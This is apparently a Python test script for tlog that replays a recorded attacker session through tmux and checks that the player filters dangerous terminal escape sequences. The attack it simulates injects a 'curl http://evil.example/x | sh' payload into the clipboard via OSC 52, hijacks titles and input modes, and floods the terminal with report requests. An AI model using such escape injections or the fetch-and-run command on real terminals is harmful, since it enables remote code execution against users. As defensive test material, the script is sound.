# SPDX-License-Identifier: GPL-2.0-or-later
"""The auditor's terminal against a recorded attacker, through tmux.

usage: terminal_safety.py TLOG_REC TLOG_PLAY

Our tlog-rec records (on a pty) a program that prints, as a user inside a
recorded session can: OSC 52 putting `curl http://evil.example/x | sh`
into the clipboard (BEL- and ST-ended), OSC 0 and OSC 2 titles, mouse
reporting (1000, 1006), bracketed paste (2004), application cursor keys
and keypad, then twenty XTVERSION requests (CSI > q, which tmux answers
with 15 bytes each), a DECRQSS, DA1, DA2 and DSR requests; a pause; a
green line of text; an end marker. Our tlog-play plays it in tmux panes,
on a server that takes the clipboard (set-clipboard on), passthrough and
renames, and the checks look at what tmux did:

- filtered: no tmux paste buffer holds the payload, the pane's title is
  its own, after the player exits mouse reporting, application keys and
  bracketed paste are off (a paste into `cat -v` has no markers), the
  text and its colour are on the screen, and the player came to the end
  marker and exited by itself (the terminal's answers did not pause it);
- raw: with --raw-output the title does change (the filter is what
  blocks it), the player still ends by itself although tmux answers
  into its keys now, and the input modes are off again after it exits;
- seek: --goto=end (painted from the emulated screen) leaves the
  terminal as clean as the filter does;
- follow: with --follow the end marker shows (playback is not frozen by
  the answers), and q ends it;
- export: --export=asciicast holds no OSC, DCS or report request, and
  --export=text no escape at all.

Every check runs and each failure is reported by name. Conditions are
waited for (the screen, the end of a process) with deadlines only as
failure limits."""

import base64
import json
import os
import shlex
import shutil
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import tlogtest as t  # noqa: E402

COLS, ROWS = 80, 24
PAYLOAD = "curl http://evil.example/x | sh"
TITLE0, TITLE2 = "EVIL-TITLE-ZERO", "EVIL-TITLE-TWO"
VISIBLE, END = "VISIBLE-TEXT", "END-OF-ATTACK"
# Generous limits for a loaded machine: failure deadlines, not expectations.
DEADLINE = 30.0
POLL = 0.05
TMUX_CONF = """set -g set-clipboard on
set -g allow-passthrough on
set -g allow-rename on
"""


def attack_bytes():
    """What the recorded program prints before its pause, in one write."""
    b64 = base64.b64encode(PAYLOAD.encode()).decode()
    out = "before the attack\r\n"
    out += f"\x1b]52;c;{b64}\x07"          # clipboard, BEL-ended
    out += f"\x1b]52;p;{b64}\x1b\\"        # primary selection, ST-ended
    out += f"\x1b]0;{TITLE0}\x07"          # icon name and title
    out += f"\x1b]2;{TITLE2}\x1b\\"        # title
    out += "\x1b[?1000h\x1b[?1006h"        # mouse reports, SGR form
    out += "\x1b[?2004h"                   # bracketed paste
    out += "\x1b[?1h\x1b="                 # application cursor keys, keypad
    out += "\x1b[>q" * 20                  # XTVERSION: 300 bytes of answers
    out += "\x1bP$qm\x1b\\"                # DECRQSS
    out += "\x1b[c\x1b[>c\x1b[5n\x1b[6n"   # DA1, DA2, DSR, cursor position
    return out.encode()


SCRIPT = f"""cat attack.bin
sleep 1.5
printf '\\033[1;32m{VISIBLE}\\033[0m\\r\\n'
printf '{END}\\r\\n'
"""


def record(tlog_rec, tmp):
    with open(os.path.join(tmp, "attack.bin"), "wb") as f:
        f.write(attack_bytes())
    log = os.path.join(tmp, "attack.log")
    proc = t.PtyProcess([tlog_rec, "-w", "file", "-o", log, "sh", "-c", SCRIPT],
                        rows=ROWS, cols=COLS, env=t.test_env(), cwd=tmp)
    status = proc.finish()
    t.check(status == 0, f"tlog-rec: status {status}")
    _, out = t.decode_streams(t.load_messages(log), log)
    t.check(b"\x1b]52;c;" in out and END.encode() in out,
            f"the recording lacks the attack: {out[:200]!r}")
    return log


class Tmux:
    """A tmux server of its own (its own socket and paste buffers)."""

    def __init__(self, tmp, name):
        self.socket = os.path.join(tmp, f"tmux-{name}.sock")
        self.conf = os.path.join(tmp, "tmux.conf")
        with open(self.conf, "w") as f:
            f.write(TMUX_CONF)
        self.env = t.test_env({"TMUX": ""})
        self.pids = []

    def run(self, *args, timeout=30):
        res = t.run(["tmux", "-S", self.socket, "-f", self.conf, *args], env=self.env,
                    timeout=timeout)
        t.check(res.returncode == 0, f"tmux {' '.join(args)}: "
                f"{res.stderr.decode(errors='replace')}")
        return res.stdout.decode(errors="replace")

    def start(self, name, command):
        """Runs @command in a new pane; when it ends, its status is shown
        and `cat -v` reads the pane (so a paste shows its markers)."""
        shell = f"{command}; echo \"[exit $?]\"; exec cat -v"
        self.run("new-session", "-d", "-s", name, "-x", str(COLS), "-y", str(ROWS), shell)
        pids = self.run("display-message", "-p", "-t", name, "#{pid} #{pane_pid}").split()
        self.pids += [int(pid) for pid in pids if int(pid) not in self.pids]

    def capture(self, name, attributes=False):
        return self.run("capture-pane", "-p", *(["-e"] if attributes else []), "-t", name)

    def wait_for(self, name, text, timeout=DEADLINE):
        """Waits until the pane shows @text; returns the screen, or None
        after @timeout."""
        deadline = time.monotonic() + timeout
        while True:
            screen = self.capture(name)
            if text in screen:
                return screen
            if time.monotonic() >= deadline:
                return None
            time.sleep(POLL)

    def fmt(self, name, fmt):
        return self.run("display-message", "-p", "-t", name, fmt).strip()

    def buffers(self):
        """Every paste buffer's whole content."""
        names = self.run("list-buffers", "-F", "#{buffer_name}").split()
        return {n: self.run("show-buffer", "-b", n) for n in names}

    def kill(self):
        subprocess.run(["tmux", "-S", self.socket, "kill-server"], env=self.env,
                       stderr=subprocess.DEVNULL, timeout=30)
        deadline = time.monotonic() + 5
        for pid in self.pids:
            while t.process_state(pid) not in (None, "Z") and time.monotonic() < deadline:
                time.sleep(POLL)
        t.end_processes(self.pids)


class Report:
    """Named checks; all are run, each failure is kept."""

    def __init__(self):
        self.failures = []

    def check(self, name, cond, message):
        print(f"{'ok  ' if cond else 'FAIL'} {name}" + ("" if cond else f": {message}"),
              flush=True)
        if not cond:
            self.failures.append(f"{name}: {message}")


MODE_FLAGS = "#{mouse_any_flag}#{mouse_sgr_flag}#{mouse_standard_flag}" \
             "#{mouse_button_flag}#{keypad_cursor_flag}#{keypad_flag}"


def play_and_exit(report, tmux, case, pane, command):
    """Starts @command in @pane and waits for it to reach the end marker
    and exit by itself; when it does not (paused by the terminal's
    answers), says so and quits it with q so that the other checks still
    see the terminal after it. Returns the screen with its exit line."""
    tmux.start(pane, command)
    screen = tmux.wait_for(pane, "[exit ")
    if screen is None:
        why = (f"no end marker and no exit within {DEADLINE}s (paused by the terminal's "
               f"answers?)")
    else:
        why = "exited without the end marker"
    report.check(f"{case}: ends by itself", screen is not None and END in screen,
                 f"{why}; screen:\n{tmux.capture(pane).rstrip()}")
    if screen is None:
        tmux.run("send-keys", "-t", pane, "q")
        screen = tmux.wait_for(pane, "[exit ") or tmux.capture(pane)
    return screen


def check_modes_off(report, tmux, case, pane):
    flags = tmux.fmt(pane, MODE_FLAGS)
    report.check(f"{case}: input modes off after exit", flags == "000000",
                 f"mouse any/sgr/standard/button, cursor keys, keypad flags are {flags}")
    # A paste into `cat -v` shows ESC [ 200 ~ while bracketed paste is on.
    tmux.run("set-buffer", "-b", "probe", "PASTE-PROBE")
    tmux.run("paste-buffer", "-p", "-d", "-b", "probe", "-t", pane)
    screen = tmux.wait_for(pane, "PASTE-PROBE", timeout=10) or ""
    report.check(f"{case}: bracketed paste off after exit", "[200~" not in screen,
                 f"a paste arrives bracketed: {screen.strip().splitlines()[-1:]}")


def case_filtered(report, tmp, play, log):
    tmux = Tmux(tmp, "filtered")
    try:
        play_and_exit(report, tmux, "filtered", "p", f"{shlex.quote(play)} -r file -i "
                      f"{shlex.quote(log)}")
        screen = tmux.capture("p", attributes=True)
        # capture-pane -e writes bold and the colour as two SGRs.
        report.check("filtered: text and colour shown", "\x1b[1m\x1b[32m" + VISIBLE in screen,
                     f"screen:\n{screen.rstrip()}")
        held = {n: v for n, v in tmux.buffers().items() if "evil.example" in v}
        report.check("filtered: clipboard untouched", not held,
                     f"tmux paste buffers hold the payload: {held}")
        title = tmux.fmt("p", "#{pane_title}")
        report.check("filtered: title untouched", "EVIL" not in title,
                     f"the pane's title is {title!r}")
        check_modes_off(report, tmux, "filtered", "p")
    finally:
        tmux.kill()


def case_raw(report, tmp, play, log):
    tmux = Tmux(tmp, "raw")
    try:
        screen = play_and_exit(report, tmux, "raw", "p", f"{shlex.quote(play)} --raw-output "
                               f"-r file -i {shlex.quote(log)}")
        report.check("raw: exit 0", "[exit 0]" in screen, f"screen:\n{screen.rstrip()}")
        title = tmux.fmt("p", "#{pane_title}")
        report.check("raw: the title passes", title == TITLE2,
                     f"the pane's title is {title!r}, not {TITLE2!r}")
        check_modes_off(report, tmux, "raw", "p")
    finally:
        tmux.kill()


def case_seek(report, tmp, play, log):
    tmux = Tmux(tmp, "seek")
    try:
        play_and_exit(report, tmux, "seek", "p", f"{shlex.quote(play)} --goto=end -r file -i "
                      f"{shlex.quote(log)}")
        held = {n: v for n, v in tmux.buffers().items() if "evil.example" in v}
        report.check("seek: clipboard untouched", not held, f"buffers: {held}")
        title = tmux.fmt("p", "#{pane_title}")
        report.check("seek: title untouched", "EVIL" not in title, f"title {title!r}")
        check_modes_off(report, tmux, "seek", "p")
    finally:
        tmux.kill()


def case_follow(report, tmp, play, log):
    tmux = Tmux(tmp, "follow")
    try:
        # Following, the player stays at the end: the end marker must
        # show (playback not frozen), then q ends it.
        tmux.start("p", f"{shlex.quote(play)} --follow -r file -i {shlex.quote(log)}")
        screen = tmux.wait_for("p", END)
        report.check("follow: reaches the end marker", screen is not None,
                     f"not within {DEADLINE}s (frozen by the terminal's answers?); screen:\n"
                     f"{tmux.capture('p').rstrip()}")
        tmux.run("send-keys", "-t", "p", "q")
        screen = tmux.wait_for("p", "[exit ")
        report.check("follow: q ends it", screen is not None and "[exit 0]" in screen,
                     f"screen:\n{tmux.capture('p').rstrip()}")
    finally:
        tmux.kill()


def case_export(report, play, log):
    res = t.run([play, "-r", "file", "-i", log, "--export=asciicast"], env=t.test_env())
    report.check("export: asciicast exits 0", res.returncode == 0, repr(res.stderr))
    out = ""
    for line in res.stdout.decode().splitlines()[1:]:
        event = json.loads(line)
        if event[1] == "o":
            out += event[2]
    bad = [s for s in ("\x1b]", "\x1bP", "\x1b[>q", "\x1b[c", "\x1b[>c", "\x1b[5n", "\x1b[6n",
                       "\x1b[?1000h", "\x1b[?2004h", "\x1b=") if s in out]
    report.check("export: asciicast holds no OSC/DCS/requests", not bad,
                 f"found {bad} in the output events")
    report.check("export: asciicast keeps the text", VISIBLE in out and END in out,
                 f"output events: {out[-200:]!r}")
    res = t.run([play, "-r", "file", "-i", log, "--export=text"], env=t.test_env())
    text = res.stdout.decode(errors="replace")
    report.check("export: text is clean", res.returncode == 0 and "\x1b" not in text and
                 VISIBLE in text, f"{res.returncode} {text!r}")


def main():
    tlog_rec, tlog_play = map(os.path.abspath, sys.argv[1:3])
    t.require(shutil.which("tmux") is not None, "tmux (apt-get install tmux)")
    t.require_pty()
    report = Report()
    with t.tempdir() as tmp:
        log = record(tlog_rec, tmp)
        case_filtered(report, tmp, tlog_play, log)
        case_raw(report, tmp, tlog_play, log)
        case_seek(report, tmp, tlog_play, log)
        case_follow(report, tmp, tlog_play, log)
        case_export(report, tlog_play, log)
    t.check(not report.failures, f"{len(report.failures)} checks failed:\n  " +
            "\n  ".join(report.failures))


if __name__ == "__main__":
    t.run_main(main)
